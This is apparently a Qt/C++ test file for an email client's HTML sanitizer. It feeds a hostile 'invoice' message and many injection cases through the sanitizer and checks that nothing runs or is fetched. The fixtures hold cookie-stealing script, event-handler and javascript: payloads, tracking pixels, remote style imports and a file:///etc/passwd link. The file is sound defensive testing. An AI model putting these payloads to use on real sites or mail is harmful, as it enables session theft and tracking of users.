#include "HtmlSanitizer.h"
#include "SafeTextBrowser.h"
#include "ThreadView.h"

#include <QSignalSpy>
#include <QTcpServer>
#include <QTextDocument>
#include <QtTest>

using ui::HtmlSanitizer;

// A message must never reach out when shown: no script runs or survives, no remote image or style sheet is
// fetched. A real TCP server on 127.0.0.1 stands for "the network" and must see no connection.
class TestThreadView final : public QObject {
    Q_OBJECT

private:
    QTcpServer m_server;
    QString m_remote; // http://127.0.0.1:<port>

    db::ThreadMessage hostileMessage() const {
        db::ThreadMessage m;
        m.id = 1;
        m.subject = QStringLiteral("Invoice");
        m.fromName = QStringLiteral("Mallory");
        m.fromAddress = QStringLiteral("mallory@evil.example");
        m.to = {QStringLiteral("victim@example.com")};
        m.internalDate = QDateTime(QDate(2024, 5, 1), QTime(10, 0), Qt::UTC);
        m.bodyHtml =
            QStringLiteral(
                "<html><head><style>@import url('%1/evil.css'); p { color: red; }</style>"
                "<link rel=\"stylesheet\" href=\"%1/style.css\"></head>"
                "<body onload=\"steal()\"><p onclick=\"steal()\">Please pay the invoice.</p>"
                "<script type=\"text/javascript\">document.location='%1/steal?c='+document.cookie;</script>"
                "<img src=\"%1/pixel.gif\" width=\"1\" height=\"1\">"
                "<img src='%1/logo.png'>"
                "<div style=\"background: url(%1/bg.png)\">Regards</div>"
                "<a href=\"javascript:steal()\">click</a> <a href=\"https://example.com/pay\">pay</a>"
                "</body></html>")
                .arg(m_remote);
        m.attachments = {{QStringLiteral("invoice.pdf"), QStringLiteral("application/pdf"), 1234}};
        return m;
    }

private Q_SLOTS:
    void initTestCase() {
        QVERIFY(m_server.listen(QHostAddress::LocalHost));
        m_remote = QStringLiteral("http://127.0.0.1:%1").arg(m_server.serverPort());
    }

    void sanitizer_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<QString>("mustNotContain");
        QTest::addColumn<QString>("mustContain");
        QTest::newRow("script block") << "<p>a</p><script>alert(1)</script><p>b</p>"
                                      << "alert"
                                      << "<p>b</p>";
        QTest::newRow("script upper case, attributes") << "<SCRIPT SRC=x.js>bad()</SCRIPT>ok"
                                                       << "bad()"
                                                       << "ok";
        QTest::newRow("unclosed script") << "ok<script>bad()"
                                         << "bad()"
                                         << "ok";
        QTest::newRow("event handler") << "<p onclick=\"bad()\" title=\"t\">x</p>"
                                       << "onclick"
                                       << "title=\"t\"";
        QTest::newRow("handler without quotes") << "<img src=data:image/png;base64,AA onerror=bad()>"
                                                << "onerror"
                                                << "data:image/png";
        QTest::newRow("remote image") << "<img src=\"https://t.example/p.gif\">text"
                                      << "t.example"
                                      << "text";
        QTest::newRow("protocol-relative image") << "<img src=\"//t.example/p.gif\">"
                                                 << "t.example"
                                                 << "";
        QTest::newRow("link element") << "<link rel=stylesheet href=https://x.example/a.css>"
                                      << "x.example"
                                      << "";
        QTest::newRow("style import") << "<style>@import 'https://x.example/a.css';</style>"
                                      << "x.example"
                                      << "";
        QTest::newRow("local style stays") << "<style>p { color: red }</style>"
                                           << "import"
                                           << "color: red";
        QTest::newRow("style attribute url") << "<p style=\"background:url(https://x.example/b.png)\">x</p>"
                                             << "x.example"
                                             << "<p>x</p>";
        QTest::newRow("javascript link") << "<a href=\"javascript:bad()\">x</a>"
                                         << "javascript"
                                         << "<a>x</a>";
        QTest::newRow("https link stays") << "<a href=\"https://example.com/a?b=1&amp;c=2\">x</a>"
                                          << "javascript"
                                          << "href=\"https://example.com/a?b=1&amp;c=2\"";
        QTest::newRow("iframe") << "<iframe src=\"https://x.example\">inner</iframe>after"
                                << "x.example"
                                << "after";
        QTest::newRow("comment hiding a script") << "<!-- <script>bad()</script> -->ok"
                                                 << "bad()"
                                                 << "ok";
        QTest::newRow("document wrapper")
            << "<html><head><title>T</title></head><body bgcolor=\"red\">x</body></html>"
            << "bgcolor"
            << "x";
        QTest::newRow("title dropped") << "<title>Secret title</title><p>x</p>"
                                       << "Secret"
                                       << "<p>x</p>";
        QTest::newRow("quoted gt in attribute") << "<p title=\"a>b\" onclick=\"bad()\">x</p>"
                                                << "onclick"
                                                << "title=\"a&gt;b\"";
    }
    void sanitizer() {
        QFETCH(QString, html);
        QFETCH(QString, mustNotContain);
        QFETCH(QString, mustContain);
        const QString clean = HtmlSanitizer::sanitize(html).html;
        QVERIFY2(!clean.contains(mustNotContain, Qt::CaseInsensitive), qPrintable(clean));
        QVERIFY2(clean.contains(mustContain), qPrintable(clean));
    }

    void countsWhatItBlocked() {
        const HtmlSanitizer::Result r = HtmlSanitizer::sanitize(hostileMessage().bodyHtml);
        QCOMPARE(r.removedScripts, 1);
        QVERIFY2(r.blockedRemote >= 4, qPrintable(QString::number(r.blockedRemote))); // 2 img, style, bg
    }

    void rendersHostileMessageWithoutScriptOrNetwork() {
        ui::ThreadView view;
        view.resize(800, 600);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        view.showThread(QStringLiteral("Invoice"), {hostileMessage()});
        QCoreApplication::processEvents();

        QTextDocument *doc = view.browser()->document();
        const QString text = doc->toPlainText();
        QVERIFY2(text.contains(QLatin1String("Please pay the invoice.")), qPrintable(text));
        QVERIFY(text.contains(QLatin1String("invoice.pdf")));          // attachments listed
        QVERIFY(text.contains(QLatin1String("mallory@evil.example"))); // headers shown
        const QString html = doc->toHtml();
        for (const char *gone : {"document.location", "document.cookie", "steal", "pixel.gif", "logo.png",
                                 "evil.css", "style.css", "bg.png", "javascript:"})
            QVERIFY2(!html.contains(QLatin1String(gone)), gone);
        QCOMPARE(view.browser()->refusedResources(), 0); // nothing left that could be fetched

        // The browser was asked for nothing and the "internet" saw no connection.
        QTest::qWait(200);
        QVERIFY(!m_server.hasPendingConnections());
    }

    // Even HTML that did not go through the sanitizer cannot load anything through the browser itself.
    void browserRefusesEveryResource() {
        ui::SafeTextBrowser browser;
        browser.resize(400, 300);
        browser.show();
        QVERIFY(QTest::qWaitForWindowExposed(&browser));
        browser.setHtml(
            QStringLiteral("<p>x</p><img src=\"%1/raw.png\" width=\"20\" height=\"20\">").arg(m_remote));
        browser.grab(); // lays out and paints the image placeholder
        QVERIFY(browser.refusedResources() > 0);
        QTest::qWait(200);
        QVERIFY(!m_server.hasPendingConnections());
    }

    void linksGoToTheSystemBrowserOnlyWhenClicked() {
        ui::SafeTextBrowser browser;
        browser.setOpenLinksExternally(false);
        QSignalSpy spy(&browser, &ui::SafeTextBrowser::externalLinkRequested);
        QVERIFY(!browser.openLinks());
        Q_EMIT browser.anchorClicked(QUrl(QStringLiteral("https://example.com/pay")));
        Q_EMIT browser.anchorClicked(QUrl(QStringLiteral("file:///etc/passwd")));
        QCOMPARE(spy.count(), 1);
        QCOMPARE(spy.at(0).at(0).toUrl(), QUrl(QStringLiteral("https://example.com/pay")));
    }

    void plainTextIsEscaped() {
        db::ThreadMessage m;
        m.fromAddress = QStringLiteral("a@example.com");
        m.internalDate = QDateTime::currentDateTimeUtc();
        m.bodyText = QStringLiteral("1 < 2 && <b>not bold</b>");
        const QString html = ui::ThreadView::renderHtml({m});
        QVERIFY(html.contains(QLatin1String("1 &lt; 2 &amp;&amp; &lt;b&gt;not bold&lt;/b&gt;")));
    }
};

QTEST_MAIN(TestThreadView)
#include "TestThreadView.moc"
